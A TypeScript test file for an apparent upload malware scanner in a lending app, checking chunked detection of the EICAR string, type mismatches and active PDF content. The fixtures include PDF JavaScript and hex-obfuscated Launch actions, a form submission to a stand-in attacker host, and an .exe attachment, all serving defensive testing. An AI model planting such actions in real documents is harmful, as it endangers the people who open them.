import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { sampleApplication } from '#lending/samples/application.ts';
import { createBuiltInScanner } from './document-scanner.ts';

/** As in signatures.ts, in parts. */
const eicar = Buffer.from(
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR' + '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
);
const [card, statement] = (await sampleApplication({}, 1)).documents.map(
  ({ content }) => content,
) as [Buffer, Buffer];
const tiff = await sharp(card).tiff({ compression: 'lzw' }).toBuffer();
const [jpeg, pdf] = ['image/jpeg', 'application/pdf'];

function scan(
  content: Buffer,
  mediaType: string,
  chunkSize = 1_000,
): Promise<'clean' | 'infected'> {
  const chunks = Array.from({ length: Math.ceil(content.length / chunkSize) }, (_, index) =>
    content.subarray(index * chunkSize, (index + 1) * chunkSize),
  );
  return createBuiltInScanner().scan(Readable.from(chunks, { objectMode: false }), mediaType);
}

test('sound documents are clean, regardless of how they are chunked', async () => {
  for (const size of [1, 4_099, 100_000]) {
    assert.equal(await scan(card, jpeg, size), 'clean');
    assert.equal(await scan(statement, pdf, size), 'clean');
    assert.equal(await scan(tiff, 'image/tiff', size), 'clean');
  }
});

test('the EICAR test file is found wherever the chunks are cut', async () => {
  const infected = Buffer.concat([card, eicar, card]);
  for (let size = 1; size <= eicar.length + 1; size += 1)
    assert.equal(await scan(infected, jpeg, size), 'infected');
  assert.equal(
    await scan(Buffer.concat([card, eicar]), jpeg, card.length + eicar.length - 1),
    'infected',
  );
});

test('a file of another type than it was accepted as is infected', async () => {
  assert.equal(await scan(card, pdf), 'infected');
  assert.equal(await scan(statement, jpeg), 'infected');
  assert.equal(await scan(Buffer.from('<html>'), jpeg), 'infected');
  assert.equal(await scan(Buffer.alloc(0), jpeg), 'infected');
});

/** The statement, with one more object. */
const withObject = (object: string) =>
  Buffer.concat([statement, Buffer.from(`\n999 0 obj ${object} endobj`, 'latin1')]);
const inObjectStream = (object: string) => {
  const packed = deflateSync(Buffer.from(`999 0 ${object}`)).toString('latin1');
  return withObject(`<</Type/ObjStm/N 1/First 6/Filter/FlateDecode>>stream\n${packed}\nendstream`);
};
const attachment = (name: string) =>
  withObject(`<</Type/Filespec/UF(${name})>> <</Type /EmbeddedFile>>`);

test('a PDF that runs something is infected, wherever the action is and however it is spelt', async () => {
  const active = [
    withObject('<</S /JavaScript /JS (app.alert(1))>>'),
    withObject('<</S/J#61vaScript>>'),
    withObject('<</Type /Action /S /#4c#61#75#6E#63#68>>'),
    withObject('<</S/SubmitForm/F(http://evil.example)>>'),
    withObject('<</Type/Annot/Subtype/RichMedia>>'),
    inObjectStream('<</S /JavaScript /JS (1)>>'),
    attachment('invoice.exe'),
  ];
  for (const file of active) assert.equal(await scan(file, pdf, 7_000), 'infected');
});

test('a PDF that only speaks of such things, or brings along data, is clean', async () => {
  const harmless = [
    withObject('(TypeScript /S /JavaScript (nested /S /Launch) \\) and more)'),
    withObject('% /S /JavaScript'),
    withObject('<</Length 20>>stream\n/S /JavaScript     \nendstream'),
    withObject('<</Names <</EmbeddedFiles <</Names []>> /JavaScript <</Names []>> >> >>'),
    withObject('<</Title (Learning JavaScript) /S /URI /URI (https://example.com)>>'),
    attachment('factur-x.xml'),
  ];
  for (const file of harmless) assert.equal(await scan(file, pdf, 7_000), 'clean');
  assert.equal(await scan(Buffer.concat([card, Buffer.from('/S /JavaScript')]), jpeg), 'clean');
  assert.equal(await scan(Buffer.concat([Buffer.from('\r\n'), statement]), pdf), 'clean');
});

test('a stream that fails gets no verdict', async () => {
  const broken = Readable.from(
    (async function* () {
      yield card;
      throw new Error('cut');
    })(),
  );
  await assert.rejects(createBuiltInScanner().scan(broken, jpeg), { message: 'cut' });
});
